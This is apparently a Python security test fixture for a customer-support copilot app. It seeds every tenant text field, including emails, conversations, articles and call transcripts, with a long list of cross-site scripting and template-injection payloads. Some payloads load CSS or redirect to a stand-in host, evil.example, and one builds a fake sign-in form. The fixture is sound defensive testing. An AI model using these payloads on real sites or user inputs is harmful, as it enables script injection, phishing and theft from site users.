"""One of everything in a tenant, every text of it made to run in a page that shows it as markup."""

import json
from email.message import EmailMessage
from typing import Any

import httpx

from copilot.calls import store
from copilot.calls.pipeline import make_conversation, write_notes
from copilot.kernel.ids import TenantId
from copilot.ledger.ledger import Ended, Leaving
from tests.calls.heard import heard_call
from tests.service import Service

PAYLOADS = [
    "<script>owned('script')</script>",
    "</script><script>owned('breaker')</script>",
    "<!--<script>owned('comment')//-->",
    "]]><script>owned('cdata')</script>",
    '<img src=x onerror="owned(1)">',
    '"><svg onload=owned(2)>',
    "'><details open ontoggle=owned(3)>",
    '" autofocus onfocus=owned(4) x="',
    "<svg><animate onbegin=owned(5) attributeName=x dur=1s></svg>",
    "<math><mtext></form><mglyph><style></math><img src onerror=owned(6)>",
    "<iframe srcdoc='<script>parent.owned(7)</script>'></iframe>",
    "<object data='javascript:owned(8)'></object>",
    "<style>@import 'https://evil.example/x.css';*{background:url(//evil.example/y)}</style>",
    "<div style='background:url(https://evil.example/z)'>css</div>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><button>Sign in</button></form>",
    "[a kettle](javascript:owned(9))",
    "![a kettle](https://evil.example/pixel.png)",
    "<a href='jAvAsCrIpT:owned(10)'>here</a>",
    "<https://evil.example/auto>",
    "{{constructor.constructor('owned(11)')()}} ${owned(12)} {% raw %} <%= 7*7 %> #{7*7}",
    "\u202eevil.example\u202c \u2066turned\u2069 \u200f\u200e",
    "before\x00<script>owned('null')</script>",
    "&lt;script&gt;owned(13)&lt;/script&gt; &#60;img src=x onerror=owned(14)&#62;",
    "\ufeff\u2028owned(15)\u2029//",
    "W" * 190,
]
EVIL = " ".join(PAYLOADS[:-1])
SHORT = "</script><img src=x onerror=owned(0)><svg onload=owned(0)>"
LINK = "javascript:owned(20)//https://kb.example/"
AT = "2026-03-01T08:00:00Z"


def mail(subject: str, text: str) -> bytes:
    """A mail whose every part is ``text``."""
    made = EmailMessage()
    made["From"] = f'"{SHORT}" <sender@mail.example>'.replace("\n", "")
    made["To"] = "help@shop.example"
    made["Subject"] = "".join(char for char in subject if char.isprintable())
    made["Date"] = "Sun, 01 Mar 2026 08:00:00 +0000"
    made["Message-ID"] = "<hostile@mail.example>"
    made.set_content(text)
    made.add_alternative(f"<html><body onload=owned(21)>{text}</body></html>", subtype="html")
    made.add_attachment(text.encode(), "image", "svg+xml", filename="<svg onload=owned(22)>.svg")
    return made.as_bytes()


def made(answer: httpx.Response) -> dict[str, Any]:
    """What was made, or nothing where a text was refused as it should be."""
    assert answer.status_code in {200, 201, 202}, (answer.request.url, answer.text)
    found: dict[str, Any] = answer.json()
    return found


async def fill(client: httpx.AsyncClient, service: Service, tenant: TenantId) -> list[str]:
    """Fill every text field; returns the paths of the pages that show them.

    To be run in the loop of ``service``.
    """
    person = {"source": "crm", "external_id": "evil"}
    customer = {"name": SHORT, "emails": [f"{SHORT}@mail.example"], "handles": [SHORT]}
    made(await client.put("/v1/customers/crm/evil", json=customer))
    order = {
        "customer": person,
        "status": SHORT,
        "items": [{"name": EVIL[:300], "sku": SHORT}],
        "tracking": [{"carrier": SHORT, "number": SHORT, "status": SHORT, "url": LINK}],
    }
    made(await client.put("/v1/orders/crm/1", json=order))
    paths = []
    for n, text in enumerate((EVIL, "Returns of a kettle\n\n" + EVIL)):
        article = {"title": EVIL[:500], "body": text, "url": LINK, "tags": [SHORT]}
        article_id = made(await client.put(f"/v1/articles/crm/{n}", json=article))["id"]
        paths.append(f"/knowledge/{article_id}")
    process = f"---\nname: evil\ntitle: {json.dumps(SHORT)}\napplies_when: [{json.dumps(SHORT)}]\n"
    made(await client.put("/v1/processes/evil", json={"body": f"{process}---\n1. {SHORT}\n"}))
    saved = {"title": EVIL[:200], "body": EVIL}
    made(await client.put("/v1/saved-replies/crm/evil", json=saved))
    made(await client.put("/v1/tone-guide", json={"body": EVIL}))
    messages = [
        {
            "external_id": f"m{n}",
            "author": {
                "role": ("customer", "agent")[n % 2],
                "name": payload[:200].replace("\x00", ""),
            },
            "sent_at": f"2026-03-01T08:{n:02}:00Z",
            "attachments": [payload[:200]],
            **({"html": payload} if n % 3 == 0 else {"text": f"Where is my kettle? {payload}"}),
        }
        for n, payload in enumerate(PAYLOADS)
    ]
    case = {
        "channel": "email",
        "subject": EVIL[:1000],
        "customer": person,
        "tags": [SHORT],
        "status": "<b>open</b>",
        "messages": messages,
    }
    found = made(await client.put("/v1/conversations/crm/evil", json=case))["id"]
    paths.append(f"/c/{found}")
    past = {**case, "messages": messages[:3], "subject": SHORT, "status": "solved"}
    past_id = made(await client.put("/v1/conversations/crm/past", json=past))["id"]
    paths.append(f"/c/{past_id}")
    made(await client.post(f"/v1/conversations/{found}/summary", json={}))
    drafted = made(
        await client.post(f"/v1/conversations/{found}/drafts", json={"instruction": EVIL[:500]})
    )
    review = {"action": "rejected", "reason": "other", "comment": EVIL[:500]}
    answer = await client.post(f"/v1/drafts/{drafted['id']}/review", json=review)
    if answer.status_code == 422:
        review = {"action": "edited", "final_text": EVIL}
        made(await client.post(f"/v1/drafts/{drafted['id']}/review", json=review))
    feedback = {"kind": "csat", "score": 1, "comment": EVIL[:500], "draft_id": drafted["id"]}
    made(await client.post("/v1/feedback", json=feedback))
    for name, content in (
        ("<img src=x onerror=owned(23)>.eml", mail(EVIL, EVIL)),
        ("evil.jsonl", b'{"source": "<script>owned(24)</script>", "x": 1}\nnot json <svg>'),
    ):
        files = {"file": (name, content, "application/octet-stream")}
        made(await client.post("/v1/conversations:import", files=files))
    made(await client.post("/v1/keys", json={"name": SHORT, "scopes": ["feedback:write"]}))
    colleague = {"email": f"<svg/onload=owned(25)>@{tenant}.example", "name": SHORT}
    made(await client.post("/v1/agents", json=colleague))
    await _leave(service, tenant, found)
    paths.append(f"/calls/{await _call(service, tenant)}")
    return paths


async def _leave(service: Service, tenant: TenantId, conversation_id: str) -> None:
    leaving = Leaving(
        tenant=tenant,
        task="draft",
        engine=SHORT,
        host=SHORT,
        local=False,
        sent=[{"role": "user", "content": EVIL}],
        characters=len(EVIL),
        masked={"name": 1},
        conversation_id=conversation_id,
    )

    entry = await service.deps.ledger.begin(leaving)
    await service.deps.ledger.end(tenant, entry, Ended("answered", 20, 5))


async def _call(service: Service, tenant: TenantId) -> str:
    """A call whose segments, words, subject and vocabulary are payloads."""
    deps = service.deps

    said = [(("customer", "agent")[n % 2], text) for n, text in enumerate(PAYLOADS)]
    clean = [(who, text.replace("\x00", "")) for who, text in said]
    call_id = await heard_call(deps.db, tenant, *clean)  # type: ignore[arg-type]
    async with deps.db.write() as session:
        await store.change(session, tenant, call_id, subject=SHORT, vocabulary=[SHORT])
    await make_conversation(deps.calls, tenant, call_id)
    await write_notes(deps.calls, tenant, call_id)
    return call_id
